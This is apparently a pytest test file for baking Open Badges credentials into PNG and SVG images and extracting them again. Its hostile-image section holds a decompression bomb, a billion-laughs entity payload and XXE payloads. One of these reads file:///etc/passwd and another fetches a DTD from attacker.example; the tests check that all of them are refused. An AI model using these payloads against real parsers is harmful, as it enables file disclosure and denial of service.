"""Baking: exact extraction from 1EdTech's baked images, round trips, and hostile images."""

from __future__ import annotations

import json
import re
import struct
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from verifier.baking import (
    OB_NAMESPACE,
    PNG_KEYWORD,
    bake_png,
    bake_svg,
    detect_kind,
    extract_from_png,
    extract_from_svg,
)
from verifier.errors import InvalidCredential

FIXTURES = Path(__file__).resolve().parents[1] / "vectors" / "data" / "ob3-validator-fixtures"
EXPECTED = FIXTURES / "expected-extractions"
JWT = (EXPECTED / "simple-jwt.png.itxt-text").read_text("utf-8")
PNG = (FIXTURES / "simple-json.png").read_bytes()
SVG = (FIXTURES / "simple-json.svg").read_bytes()
TRICKY_JSON = json.dumps({"name": "Zusammenarbeit — ü, 日本語, 🎓", "narrative": "ends ]]> here ]]]]> too"})
CRLF_JSON = json.dumps(json.loads(TRICKY_JSON), indent=2).replace("\n", "\r\n")
PLAIN_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle r="4"/></svg>'


def chunks(png: bytes) -> list[tuple[bytes, bytes]]:
    out, pos = [], 8
    while pos < len(png):
        (length,) = struct.unpack_from(">I", png, pos)
        out.append((png[pos + 4 : pos + 8], png[pos + 8 : pos + 8 + length]))
        pos += 12 + length
    return out


def make_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def with_itxt(body: bytes, png: bytes = PNG) -> bytes:
    """`png` with its own credential chunk removed and a hand-made iTXt (any flags) right after IHDR."""
    out, pos = [png[:8]], 8
    while pos < len(png):
        (length,) = struct.unpack_from(">I", png, pos)
        raw = png[pos : pos + 12 + length]
        if not (raw[4:8] == b"iTXt" and raw[8:].startswith(PNG_KEYWORD + b"\0")):
            out.append(raw)
        if raw[4:8] == b"IHDR":
            out.append(make_chunk(b"iTXt", body))
        pos += 12 + length
    return b"".join(out)


# ---------------------------------------------------------------- 1EdTech's baked images


@pytest.mark.parametrize(
    ("image", "expected"),
    [
        ("simple-json.png", "simple-json.png.itxt-text"),
        ("simple-jwt.png", "simple-jwt.png.itxt-text"),
        ("simple-json.svg", "simple-json.svg.cdata-text"),
        ("simple-jwt.svg", "simple-jwt.svg.verify-attr"),
    ],
)
def test_extractions_match_byte_for_byte(image: str, expected: str) -> None:
    data = (FIXTURES / image).read_bytes()
    extract = extract_from_png if image.endswith(".png") else extract_from_svg
    text = extract(data)
    assert text.encode("utf-8") == (EXPECTED / expected).read_bytes()


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("simple-json.png", "png"),
        ("simple-jwt.svg", "svg"),
        ("simple.json", "json"),
        ("simple.jwt", "jwt"),
        ("expected-extractions/simple-jwt.svg.verify-attr", "jwt"),
        ("bit-string-list/testlist", "json"),
    ],
)
def test_detect_kind_on_fixtures(name: str, kind: str) -> None:
    assert detect_kind((FIXTURES / name).read_bytes()) == kind


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"", "unknown"),
        (b"GIF89a....", "unknown"),
        (b"\xef\xbb\xbf  <svg xmlns='http://www.w3.org/2000/svg'/>", "svg"),
        (b"<html><body/></html>", "unknown"),
        (b'\n {"a": 1}', "json"),
        (b"a.b", "unknown"),
        (b"\x89PNG\r\n\x1a\n", "png"),
    ],
)
def test_detect_kind_on_edge_cases(data: bytes, kind: str) -> None:
    assert detect_kind(data) == kind


# ---------------------------------------------------------------- round trips


@pytest.mark.parametrize("payload", [TRICKY_JSON, JWT, CRLF_JSON], ids=["json", "jwt", "crlf"])
def test_png_round_trip(payload: str) -> None:
    baked = bake_png(PNG, payload)
    assert extract_from_png(baked) == payload
    kinds = [k for k, _ in chunks(baked)]
    assert kinds[:2] == [b"IHDR", b"iTXt"]
    credential_chunks = [d for k, d in chunks(baked) if k == b"iTXt" and d.startswith(PNG_KEYWORD + b"\0")]
    assert credential_chunks == [PNG_KEYWORD + b"\0\0\0\0\0" + payload.encode("utf-8")]


def test_png_bake_keeps_every_other_chunk_byte_for_byte() -> None:
    baked = bake_png(PNG, TRICKY_JSON)

    def others(png: bytes) -> list[tuple[bytes, bytes]]:
        return [(k, d) for k, d in chunks(png) if not (k == b"iTXt" and d.startswith(PNG_KEYWORD + b"\0"))]

    assert others(baked) == others(PNG)
    assert baked.endswith(make_chunk(b"IEND", b""))


def test_png_rebake_replaces_the_credential() -> None:
    twice = bake_png(bake_png(PNG, TRICKY_JSON), JWT)
    assert extract_from_png(twice) == JWT
    assert sum(k == b"iTXt" and d.startswith(PNG_KEYWORD) for k, d in chunks(twice)) == 1


@pytest.mark.parametrize("payload", [TRICKY_JSON, JWT, CRLF_JSON], ids=["json", "jwt", "crlf"])
def test_svg_round_trip(payload: str) -> None:
    for svg in (SVG, PLAIN_SVG):
        baked = bake_svg(svg, payload)
        assert extract_from_svg(baked) == payload
        assert baked.count(b"xmlns:openbadges=") == 1
        root_end = re.search(rb"<svg\b[^>]*>", baked)
        assert root_end is not None
        assert baked[root_end.end() :].startswith(b"<openbadges:credential")


def test_svg_jwt_goes_in_verify_on_an_empty_element_and_json_in_cdata() -> None:
    assert f'<openbadges:credential verify="{JWT}"/>'.encode() in bake_svg(PLAIN_SVG, JWT)
    baked = bake_svg(PLAIN_SVG, '{"a": "]]>"}')
    assert b'<openbadges:credential><![CDATA[{"a": "]]]]><![CDATA[>"}]]></openbadges:credential>' in baked


def test_svg_bake_adds_the_namespace_once_and_keeps_the_rest() -> None:
    baked = bake_svg(PLAIN_SVG, JWT)
    assert baked.startswith(
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" xmlns:openbadges="' + OB_NAMESPACE.encode()
    )
    assert baked.endswith(b'<circle r="4"/></svg>')


def test_svg_rebake_replaces_existing_elements() -> None:
    nested = PLAIN_SVG.replace(
        b"<circle", b'<g xmlns:ob="https://purl.imsglobal.org/ob/v3p0"><ob:credential verify="a.b.c"/></g><circle'
    )
    assert extract_from_svg(nested) == "a.b.c"
    baked = bake_svg(bake_svg(nested, TRICKY_JSON), JWT)
    assert extract_from_svg(baked) == JWT
    assert baked.count(b"credential") == 1
    assert b"<g xmlns:ob" in baked  # only the credential element was removed
    assert extract_from_svg(bake_svg(SVG, JWT)) == JWT
    assert bake_svg(SVG, JWT).count(b"CDATA") == 0


def test_svg_self_closing_root() -> None:
    baked = bake_svg(b'<svg xmlns="http://www.w3.org/2000/svg" />', TRICKY_JSON)
    assert extract_from_svg(baked) == TRICKY_JSON
    assert baked.endswith(b"</openbadges:credential></svg>")


def test_svg_root_with_gt_inside_an_attribute() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" data-x="a > b"><title>t</title></svg>'
    baked = bake_svg(svg, JWT)
    assert extract_from_svg(baked) == JWT
    assert b'data-x="a > b" xmlns:openbadges=' in baked


XML_CHARS = st.characters(codec="utf-8", exclude_characters="\ufffe\uffff")  # all XML 1.0 can carry


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=XML_CHARS), st.sampled_from(["png", "svg"]))
def test_any_json_text_round_trips(text: str, kind: str) -> None:
    payload = json.dumps({"narrative": text, "raw": text}, ensure_ascii=False)
    baked = bake_png(PNG, payload) if kind == "png" else bake_svg(PLAIN_SVG, payload)
    assert (extract_from_png(baked) if kind == "png" else extract_from_svg(baked)) == payload


# ---------------------------------------------------------------- refusing to bake


@pytest.mark.parametrize("payload", ["not json", "[1, 2]", "a.b", "", '"string"'])
def test_bake_refuses_payloads_that_are_neither_credential_json_nor_jws(payload: str) -> None:
    with pytest.raises(ValueError, match="payload"):
        bake_png(PNG, payload)
    with pytest.raises(ValueError, match="payload"):
        bake_svg(PLAIN_SVG, payload)


@pytest.mark.parametrize(
    "svg",
    [
        pytest.param(b"<html/>", id="not-svg-root"),
        pytest.param(b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="urn:other"/>', id="prefix-taken"),
        pytest.param(b"<svg", id="not-xml"),
        pytest.param(
            b'<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns="http://www.w3.org/2000/svg"/>', id="latin-1"
        ),
    ],
)
def test_bake_svg_refuses(svg: bytes) -> None:
    with pytest.raises(ValueError, match="cannot bake"):
        bake_svg(svg, JWT)


def test_bake_png_refuses_a_broken_png() -> None:
    with pytest.raises(ValueError, match="cannot bake"):
        bake_png(PNG[:1000], JWT)


def test_bake_refuses_characters_xml_cannot_carry() -> None:
    with pytest.raises(ValueError, match="U\\+FFFF"):
        bake_svg(PLAIN_SVG, '{"a": "\uffff"}')
    assert extract_from_png(bake_png(PNG, '{"a": "\uffff"}')) == '{"a": "\uffff"}'  # PNG text is plain UTF-8


def test_bake_refuses_lone_surrogates() -> None:
    with pytest.raises(ValueError, match="surrogate"):
        bake_png(PNG, '{"a": "\ud800"}')


# ---------------------------------------------------------------- hostile or broken images


def test_compressed_itxt_is_read_although_the_spec_forbids_writing_it() -> None:
    body = PNG_KEYWORD + b"\0\x01\x00en\0Abzeichen\0" + zlib.compress(TRICKY_JSON.encode())
    assert extract_from_png(with_itxt(body)) == TRICKY_JSON


def test_compressed_itxt_bomb_is_refused() -> None:
    body = PNG_KEYWORD + b"\0\x01\x00\0\0" + zlib.compress(bytes(17 * 1024 * 1024), 9)
    with pytest.raises(InvalidCredential, match="refused"):
        extract_from_png(with_itxt(body))


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (PNG_KEYWORD + b"\0\x02\x00\0\0{}", "compression flag"),
        (PNG_KEYWORD + b"\0\x01\x05\0\0{}", "compression method"),
        (PNG_KEYWORD + b"\0\x00\x00\0\0\xff\xfe", "UTF-8"),
        (PNG_KEYWORD + b"\0\x00", "malformed"),
        (PNG_KEYWORD + b"\0\x01\x00\0\0not zlib", "corrupt"),
    ],
)
def test_malformed_itxt(body: bytes, message: str) -> None:
    with pytest.raises(InvalidCredential, match=message):
        extract_from_png(with_itxt(body))


def test_first_credential_chunk_wins() -> None:
    first = with_itxt(PNG_KEYWORD + b"\0\0\0\0\0first.jws.here")
    second = make_chunk(b"iTXt", PNG_KEYWORD + b"\0\0\0\0\0second.jws.here")
    both = first[:-12] + second + first[-12:]  # another credential chunk just before IEND
    assert extract_from_png(both) == "first.jws.here"
    assert extract_from_png(bake_png(both, JWT)) == JWT


def test_corrupt_crc_is_refused() -> None:
    broken = bytearray(PNG)
    broken[20] ^= 0x01  # inside the IHDR chunk's data
    with pytest.raises(InvalidCredential, match="CRC"):
        extract_from_png(bytes(broken))


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"GIF89a", "signature"),
        (PNG[:5000], "past the end"),
        (PNG[:8], "truncated"),
        (PNG[:8] + make_chunk(b"IEND", b""), "IHDR"),
        (PNG[:33] + make_chunk(b"a1b2", b"") + PNG[33:], "invalid type"),
    ],
)
def test_broken_pngs(data: bytes, message: str) -> None:
    with pytest.raises(InvalidCredential, match=message):
        extract_from_png(data)


def test_unbaked_png() -> None:
    plain = with_itxt(b"Comment\0\0\0\0\0hello")
    with pytest.raises(InvalidCredential) as err:
        extract_from_png(plain)
    assert err.value.code == "not_baked"


def test_open_badges_2_png_is_named() -> None:
    ob2 = with_itxt(b"openbadges\0\0\0\0\0{}")
    with pytest.raises(InvalidCredential, match=r"Open Badges 2\.0"):
        extract_from_png(ob2)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&c;</openbadges:credential></svg>"""
EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&x;</openbadges:credential></svg>"""
PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize("svg", [BILLION_LAUGHS, EXTERNAL, PARAMETER], ids=["billion-laughs", "external", "parameter"])
def test_entity_declarations_are_refused(svg: bytes) -> None:
    with pytest.raises(InvalidCredential) as err:
        extract_from_svg(svg)
    assert err.value.code == "baked_image_refused"


def test_public_doctype_without_entities_is_fine() -> None:
    assert SVG.count(b"<!DOCTYPE svg PUBLIC") == 1
    assert extract_from_svg(SVG).strip().startswith("{")


@pytest.mark.parametrize(
    ("svg", "code"),
    [
        pytest.param(PLAIN_SVG, "not_baked", id="no-element"),
        pytest.param(
            PLAIN_SVG.replace(b"<circle", b'<credential xmlns="https://purl.imsglobal.org/ob/v2"/><circle'),
            "not_baked",
            id="other-namespace",
        ),
        pytest.param(
            PLAIN_SVG.replace(
                b"<circle", b'<o:credential xmlns:o="https://purl.imsglobal.org/ob/v3p0">  </o:credential><circle'
            ),
            "not_baked",
            id="empty-element",
        ),
        pytest.param(b"<svg><openbadges:credential/></svg>", "baked_image_corrupt", id="unbound-prefix"),
        pytest.param(b"\x89PNG not an svg", "baked_image_corrupt", id="binary"),
    ],
)
def test_svgs_without_a_credential(svg: bytes, code: str) -> None:
    with pytest.raises(InvalidCredential) as err:
        extract_from_svg(svg)
    assert err.value.code == code
